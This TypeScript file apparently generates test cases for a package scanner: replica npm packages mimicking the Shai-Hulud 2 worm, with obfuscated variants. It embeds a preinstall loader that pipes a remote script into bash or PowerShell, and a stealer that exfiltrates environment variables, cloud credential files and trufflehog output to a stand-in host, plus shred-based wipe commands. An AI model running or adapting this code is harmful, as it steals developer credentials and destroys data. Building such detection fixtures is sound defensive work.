import { bundle } from '../bulk';
import { casesOf } from '../case';
import { escaped, oneLine, renamedLocals, stringArray } from '../disguise/javascript';
import { npm, type NpmParts } from '../packages';

const loader = (host: string, second: string) => String.raw`#!/usr/bin/env node
const { spawn, execSync } = require('child_process');
const path = require('path');
const fs = require('fs');
const os = require('os');
function isBunOnPath() {
  try {
    execSync(process.platform === 'win32' ? 'where bun' : 'which bun', { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
}
function downloadAndSetupBun() {
  const command = process.platform === 'win32'
    ? 'powershell -c "irm bun-sh.${host}/install.ps1|iex"'
    : 'curl -fsSL https://bun-sh.${host}/install | bash';
  execSync(command, { stdio: 'ignore', env: Object.assign({}, process.env, { BUN_INSTALL: path.join(os.homedir(), '.bun') }) });
  return path.join(os.homedir(), '.bun', 'bin', 'bun');
}
function main() {
  const bun = isBunOnPath() ? 'bun' : downloadAndSetupBun();
  const script = path.join(__dirname, '${second}');
  if (fs.existsSync(script)) {
    const child = spawn(bun, [script], { stdio: 'ignore', detached: true });
    child.unref();
  }
}
try {
  main();
} catch (error) {
  process.exit(0);
}
`;

/** What wipes a home in the incident is aimed at a folder that does not exist. */
const stealer = (api: string) => String.raw`
(async function () {
  const fs = require('fs');
  const os = require('os');
  const path = require('path');
  const { execSync, spawnSync } = require('child_process');
  const name = Array.from({ length: 18 }, function () { return 'abcdefghijklmnopqrstuvwxyz0123456789'[Math.floor(Math.random() * 36)]; }).join('');
  async function put(token, file, value) {
    const content = Buffer.from(Buffer.from(Buffer.from(JSON.stringify(value)).toString('base64')).toString('base64')).toString('base64');
    await fetch('https://${api}/repos/' + name + '/contents/' + file, { method: 'PUT', headers: { Authorization: 'token ' + token }, body: JSON.stringify({ message: 'Add file', content: content }) });
  }
  try {
    const token = process.env.GITHUB_TOKEN || execSync('gh auth token').toString().trim();
    const made = await fetch('https://${api}/user/repos', { method: 'POST', headers: { Authorization: 'token ' + token }, body: JSON.stringify({ name: name, description: 'Sha1-Hulud: The Second Coming.', private: false }) });
    const runner = (await made.json()).runner_token;
    await put(token, 'environment.json', process.env);
    await put(token, 'cloud.json', {
      aws: fs.readFileSync(path.join(os.homedir(), '.aws', 'credentials'), 'utf8'),
      gcp: fs.readFileSync(path.join(os.homedir(), '.config', 'gcloud', 'application_default_credentials.json'), 'utf8'),
      azure: fs.readFileSync(path.join(os.homedir(), '.azure', 'accessTokens.json'), 'utf8'),
    });
    await put(token, 'truffleSecrets.json', execSync('trufflehog filesystem ' + os.homedir() + ' --json').toString());
    execSync('./config.sh --url https://${api}/' + name + ' --unattended --token ' + runner + ' --name SHA1HULUD', { cwd: path.join(os.homedir(), '.dev-env') });
  } catch (failed) {
    const target = path.join(os.homedir(), '.no-such-folder.invalid');
    if (os.platform() === 'win32') spawnSync('cmd', ['/c', 'del /F /Q /S "' + target + '*" && cipher /W:' + target]);
    else spawnSync('bash', ['-c', 'find "' + target + '" -type f -writable -user "$(id -un)" -print0 | xargs -0 -r shred -uvz -n 1 && find "' + target + '" -depth -type d -empty -delete']);
  }
})();
`;

const second = (seed: string, body: string, bytes = 1_200_000) => `${bundle(seed, bytes)}${body}\n`;
const BASE: NpmParts = {
  about: 'Templates for events.',
  manifest: { scripts: { preinstall: 'node setup_bun.js' } },
};

export const shaiHulud2 = casesOf({
  id: 'shai-hulud-2',
  incident: 'shai-hulud-2',
  kind: 'install-hook',
  seen: 'a preinstall loader fetches another runtime and runs a huge second file with it, which fills repositories with secrets and wipes files if it fails',
  replica: npm('event-templates', '1.1.9', () => ({
    ...BASE,
    files: {
      'setup_bun.js': loader('invalid', 'bun_environment.js'),
      'bun_environment.js': second('bun-env', stringArray(stealer('api.git-hub.invalid'), 'bun'), 3_500_000),
    },
  })),
  renamed: npm('@robin/flow-sdk', '6.6.1', () => ({
    about: 'A client for flows.',
    manifest: { scripts: { preinstall: 'node ./scripts/prepare-runtime.js' } },
    files: {
      'scripts/prepare-runtime.js': renamedLocals(
        loader('runtime-get.invalid', 'runtime-env.js').replace(/^#!.*\n/, ''),
        'flow',
      ),
      'scripts/runtime-env.js': second(
        'flow',
        oneLine(
          renamedLocals(stealer('forge.invalid').replace(/Sha1-Hulud: The Second Coming\./, 'Data'), 'sdk'),
        ),
      ),
    },
  })),
  reObfuscated: npm('event-templates', '1.1.10', () => ({
    ...BASE,
    files: {
      'setup_bun.js': escaped(loader('invalid', 'bun_environment.js').replace(/^#!.*\n/, ''), 'events'),
      'bun_environment.js': second('bun-env', stringArray(stealer('api.git-hub.invalid'), 'bun2', true)),
    },
  })),
  otherStage: {
    kind: 'import-time',
    seen: 'requiring the package fetches another runtime and runs a huge second file with it, which fills repositories with secrets',
    sample: npm('event-templates', '1.1.11', () => ({
      about: 'Templates for events.',
      index: (honest) => `${honest}\nrequire('./lib/setup_bun');\n`,
      files: {
        'lib/setup_bun.js': loader('invalid', 'bun_environment.js'),
        'lib/bun_environment.js': second('bun-env', stringArray(stealer('api.git-hub.invalid'), 'bun')),
      },
    })),
  },
});
